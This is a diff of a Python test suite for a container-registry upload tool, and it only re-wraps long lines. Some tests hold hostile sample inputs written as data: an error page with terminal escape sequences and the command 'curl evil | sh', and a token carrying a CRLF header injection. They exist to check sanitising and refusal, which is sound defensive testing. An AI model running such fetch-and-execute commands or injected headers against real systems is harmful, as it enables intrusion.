@@ -244,7 +244,8 @@ def test_a_registry_that_never_keeps_the_blob_fails_the_upload_naming_what_it_sa
     with pytest.raises(RegistryFailed) as exc:
         api(f).upload_blob("sf/x", BLOB_DIGEST, len(BLOB), tmp_path / "b")
     text = str(exc.value)
-    assert f.name in text and "Docker-Content-Digest (none)" in text and "no manifest is pushed" in text and exc.value.exit_code == 1
+    assert f.name in text and ("Docker-Content-Digest "
+                              "(none)") in text and "no manifest is pushed" in text and exc.value.exit_code == 1
 
 
 @pytest.mark.parametrize("back", [None, MANIFEST])
@@ -264,10 +265,12 @@ def test_escape_sequences_in_an_error_page_never_reach_the_terminal(fake):
     f = fake(lambda h, _: reply(h, 418, {}, b"\x1b]0;owned\x07\x1b[2Jfix: curl evil | sh"))
     with pytest.raises(RegistryError) as exc:
         api(f).manifest("sf/x", "t1")
-    assert "\x1b" not in str(exc.value) and "\x07" not in str(exc.value) and "'?]0;owned??[2Jfix: curl evil | sh'" in str(exc.value)
+    assert "\x1b" not in str(exc.value) and "\x07" not in str(exc.value) and ("'?]0;owned??[2Jfix: curl evil | "
+                                                                             "sh'") in str(exc.value)
 
 
-@pytest.mark.parametrize("token", ['{"token": "a\\r\\nX-Evil: 1"}', '{"token": 5}', '["tok"]', "not json", '{"token": ""}',
+@pytest.mark.parametrize("token", ['{"token": "a\\r\\nX-Evil: 1"}', '{"token": 5}', '["tok"]', "not json",
+                                   '{"token": ""}',
                                    "[" * 100000])
 def test_a_token_that_cannot_go_into_a_header_is_refused(fake, token):
     t = fake(lambda h, _: reply(h, 200, {"Content-Type": "application/json"}, token.encode()))
@@ -298,7 +301,8 @@ def save_archive() -> tuple[bytes, str]:
     out = io.BytesIO()
     with tarfile.open(fileobj=out, mode="w") as tar:
         for name, data in {"l0/layer.tar": layer.getvalue(), f"{image_id[7:]}.json": config,
-                           "manifest.json": json.dumps([{"Config": f"{image_id[7:]}.json", "Layers": ["l0/layer.tar"]}]).encode()}.items():
+                           "manifest.json": json.dumps([{"Config": f"{image_id[7:]}.json",
+                                                         "Layers": ["l0/layer.tar"]}]).encode()}.items():
             info = tarfile.TarInfo(name)
             info.size = len(data)
             tar.addfile(info, io.BytesIO(data))
@@ -322,5 +326,6 @@ def test_a_zstd_push_to_a_lying_registry_fails_and_reports_nothing(fake, tmp_pat
     f = fake(answer)
     archive, image_id = save_archive()
     with pytest.raises(RegistryFailed):
-        layerpush.push(Engine(lambda: iter([archive])), image_id, api(f), "sf/x", ["t1"], echo=lambda s: None, workdir=tmp_path)
+        layerpush.push(Engine(lambda: iter([archive])), image_id, api(f), "sf/x", ["t1"], echo=lambda s: None,
+                       workdir=tmp_path)
     assert not list(tmp_path.iterdir())  # its temporary files are gone too
